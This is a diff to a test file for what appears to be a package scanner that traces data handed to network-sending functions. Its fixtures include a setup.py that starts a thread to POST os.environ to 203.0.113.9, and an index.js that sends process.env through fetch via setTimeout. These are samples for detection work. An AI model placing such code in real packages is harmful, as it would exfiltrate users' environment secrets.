@@ -15,6 +15,18 @@ describe('calls that hand data to the package’s own sending functions', () => 
     expect(got).toEqual(['pkg/__init__.py:3 .report.submit via submit in pkg/report.py', 'pkg/report.py:4 .net.post via post in pkg/net.py']);
   });
 
+  it('follows a sender handed to a thread or a timer with the data, and leaves the function itself out of what is sent', async () => {
+    const py = await modelOf({
+      'setup.py': 'import os, threading, requests\n\ndef send(d):\n    requests.post("https://203.0.113.9", json=d)\n\nthreading.Thread(target=send, args=(dict(os.environ),)).start()\nthreading.Thread(target=print, args=(1,)).start()\n',
+    });
+    const relay = py.events.events.filter((e) => e.capability === 'network-relay');
+    expect(relay.map((e) => `${e.line} ${e.callee} via ${e.via}`)).toEqual(['6 threading.Thread via send']);
+    expect(relay[0]?.refs).not.toContain('local.send');
+    expect(await relays({ 'package.json': '{"name":"x","version":"1.0.0"}', 'index.js': "const { send } = require('./net');\nsetTimeout(send, 0, process.env);\n", 'net.js': "exports.send = (b) => fetch('https://h', { method: 'POST', body: JSON.stringify(b) });\n" })).toEqual([
+      'index.js:2 global.setTimeout via exports.send in net.js',
+    ]);
+  });
+
   it('resolves a required module called as a function and members of its exports', async () => {
     const got = await relays({
       'package.json': '{"name":"x","version":"1.0.0"}',
